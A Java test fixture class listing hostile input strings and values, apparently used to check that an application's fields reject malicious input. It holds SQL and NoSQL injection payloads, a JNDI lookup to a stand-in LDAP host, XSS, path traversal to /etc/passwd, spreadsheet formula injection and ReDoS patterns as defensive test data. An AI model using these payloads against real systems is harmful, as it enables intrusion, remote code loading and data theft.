package uk.ectmanager.bootstrap.walk;

import java.math.BigInteger;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/** What somebody with bad intentions puts where a value is expected. */
final class Hostile {

  /** Texts that no field may take as they are. */
  static final List<String> BROKEN =
      List.of(
          "a\u0000b",
          "\u0007bell",
          "\u001b[31mred",
          "half \ud83d",
          "\udc00 other half",
          "x".repeat(20_000));

  /** Texts that mean something to some machine, and to us are text or nothing. */
  static final List<String> MEANINGFUL =
      List.of(
          "",
          "  \t ",
          "\u202egnp.exe\u202c",
          "\u200f\u2067right",
          "\ufeff",
          "\uffff",
          "Zo\u0308\u0308\u0308\u0308\u0308e",
          "one\r\nBcc: victim@walk.example",
          "{\"$gt\": \"\"}",
          "$where",
          "$where: function() { while (true) {} }",
          "'; return true; //",
          "' OR '1'='1",
          ".*(a+)+$",
          "../../etc/passwd",
          "%00%0d%0a",
          "<script>alert(1)</script>",
          "${jndi:ldap://walk.example/a}",
          "{{7*7}}",
          "=cmd|' /C calc'!A0",
          "-1",
          "1e400",
          "9999-99-99",
          "__proto__");

  private Hostile() {}

  /** Values of other types than the schema asks for. */
  static List<@Nullable Object> otherTypes() {
    Object deep = "deep";
    for (var i = 0; i < 20; i++) {
      deep = Map.of("$or", List.of(deep));
    }
    var all =
        new ArrayList<@Nullable Object>(
            List.of(
                Map.of("$gt", ""),
                Map.of("$where", "sleep(1000)"),
                Map.of("$regex", ".*"),
                deep,
                List.of(Map.of("$ne", "")),
                List.of(),
                Collections.nCopies(1_000, "x"),
                true,
                -1,
                2_147_483_648L,
                9.5,
                new BigInteger("9".repeat(90))));
    all.add(null);
    return all;
  }
}
